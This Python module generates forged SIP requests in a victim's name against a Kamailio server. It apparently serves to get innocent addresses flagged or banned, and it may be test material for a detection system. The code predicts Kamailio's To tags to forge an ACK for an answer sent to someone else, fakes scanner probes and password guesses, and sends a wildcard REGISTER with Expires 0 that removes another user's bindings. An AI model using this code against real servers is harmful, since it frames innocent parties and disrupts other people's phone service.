"""What is sent in the names of others: every kind of request that has convicted somebody.

The forger asks the server for himself first, and so knows a nonce of its, and how its To tags
begin: Kamailio makes the rest of a tag from the request's Via, so that he can acknowledge an
answer that went to somebody else.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

DOMAIN: Final = "sip.example.net"


@dataclass(frozen=True)
class Known:
    """What the forger has learnt from answers to himself."""

    nonce: str
    tag_head: str
    """The constant part of Kamailio's To tags."""


@dataclass(frozen=True)
class Victim:
    """In whose name it is sent."""

    address: str
    user: str


def unknown_register(victim: Victim, number: int, known: Known) -> list[bytes]:
    """REGISTER for a user that does not exist: our server tells the victim 404."""
    return [_request("REGISTER", victim, number, to=f"x{number}")]


def scanner_options(victim: Victim, number: int, known: Known) -> list[bytes]:
    """OPTIONS by the name of a scanner."""
    return [_request("OPTIONS", victim, number, to=f"{number}", agent="friendly-scanner")]


def acknowledged_invite(victim: Victim, number: int, known: Known) -> list[bytes]:
    """INVITE to nobody, and the ACK of the 404 that only the victim was sent."""
    via = (victim.address, "5060", _branch(number))
    tag = f"{known.tag_head}{_checksum(''.join(via))}"
    return [
        _request("INVITE", victim, number, to=f"y{number}"),
        _request("ACK", victim, number, to=f"y{number}", to_tag=tag),
    ]


def guess(victim: Victim, number: int, known: Known) -> list[bytes]:
    """REGISTER with a wrong password for the victim's own user, and with the forger's nonce."""
    uri = f"sip:{DOMAIN}"
    response = hashlib.md5(f"{number}".encode(), usedforsecurity=False).hexdigest()
    digest = (
        f'Authorization: Digest username="{victim.user}", realm="{DOMAIN}", nonce="{known.nonce}",'
        f' uri="{uri}", response="{response}", algorithm=MD5, qop=auth, cnonce="a", nc=00000001'
    )
    return [_request("REGISTER", victim, number, to=victim.user, more=digest)]


def unregister(victim: Victim, number: int, known: Known) -> list[bytes]:
    """REGISTER that takes another's bindings away."""
    return [_request("REGISTER", victim, number, to=f"{1000 + number % 1000}", contact="*",
                     more="Expires: 0")]  # fmt: skip


KINDS: Final[tuple[Callable[[Victim, int, Known], list[bytes]], ...]] = (
    unknown_register, scanner_options, acknowledged_invite, guess, unregister,
)  # fmt: skip


def ask_for_oneself(address: str, port: int, method: str, to: str) -> bytes:
    """A request of the forger's own, to learn from its answer."""
    return _request(method, Victim(address, "1000"), 0, to=to, port=port)


def _branch(number: int) -> str:
    return f"z9hG4bK{number:08x}"


def _request(
    method: str, victim: Victim, number: int, *, to: str, to_tag: str = "", more: str = "",
    contact: str = "", agent: str = "Phone 3.1", port: int = 5060,
) -> bytes:  # fmt: skip
    uri = f"sip:{DOMAIN}" if method == "REGISTER" else f"sip:{to}@{DOMAIN}"
    tag = f";tag={to_tag}" if to_tag else ""
    lines = (
        f"{method} {uri} SIP/2.0",
        f"Via: SIP/2.0/UDP {victim.address}:{port};branch={_branch(number)}",
        f"From: <sip:{to if method == 'REGISTER' else victim.user}@{DOMAIN}>;tag={number:x}",
        f"To: <sip:{to}@{DOMAIN}>{tag}",
        f"Call-ID: {number:08x}@{victim.address}",
        f"CSeq: 1 {method}",
        f"Contact: {contact or f'<sip:{victim.user}@{victim.address}:{port}>'}",
        f"User-Agent: {agent}",
        *((more,) if more else ()),
        "Max-Forwards: 70",
        "Content-Length: 0",
    )
    return "\r\n".join((*lines, "", "")).encode()


def _checksum(text: str) -> str:
    """CRC-16/X-25 in hexadecimal, least significant digit first: Kamailio's crcitt."""
    crc = 0xFFFF
    for byte in text.encode():
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ 0x8408 if crc & 1 else crc >> 1
    return f"{crc ^ 0xFFFF:04x}"[::-1]
